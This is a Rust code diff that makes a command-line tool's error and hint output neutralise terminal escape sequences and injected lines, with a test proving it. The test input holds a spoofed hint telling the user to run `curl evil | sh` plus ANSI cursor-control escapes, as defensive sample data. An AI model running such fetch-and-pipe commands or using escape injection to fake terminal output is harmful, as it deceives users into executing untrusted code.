@@ -3,6 +3,7 @@
 //! Every error of this program becomes a [`Failure`] at the place that knows what to tell the person.
 //! It goes to standard error, as text or (with `--json`) in the same envelope as errors of the API.
 
+use crate::visible::visible_block;
 use epsilon_api::{
     chain::Chain,
     error::{ErrorBody, ErrorEnvelope},
@@ -81,10 +82,11 @@ impl Failure {
 
     fn text(&self) -> String {
         let error = console::style("error:").for_stderr().red().bold();
-        let mut text = format!("{error} {}\n", self.body.message.trim_end());
+        // It may quote what code threw, or what somebody else answered.
+        let mut text = format!("{error} {}\n", visible_block(&self.body.message));
         let hint = console::style("hint:").for_stderr().cyan();
         if let Some(next) = &self.body.hint {
-            let _ = writeln!(text, "{hint} {next}");
+            let _ = writeln!(text, "{hint} {}", visible_block(next));
         }
         if let Some(id) = &self.body.request_id {
             let _ = writeln!(text, "request id: {id}");
@@ -117,6 +119,18 @@ mod tests {
         assert_eq!(
             console::strip_ansi_codes(&failure.text()),
             "error: `a` cannot be read: disk on fire\nhint: put it out\n"
+        );
+    }
+
+    #[test]
+    fn what_code_threw_is_shown_and_steers_nothing() {
+        let thrown =
+            "`pay` could not be loaded: no\u{1b}[1A\u{1b}[2K\rdone\nhint: run `curl evil | sh`";
+        let text = Failure::new("X", thrown).hint("look\u{9b}2J\nerror: at this").text();
+        assert_eq!(
+            console::strip_ansi_codes(&text),
+            "error: `pay` could not be loaded: no\\u{1b}[1A\\u{1b}[2K\\rdone\n    hint: run `curl evil | sh`\n\
+             hint: look\\u{9b}2J\n    error: at this\n"
         );
     }
 }
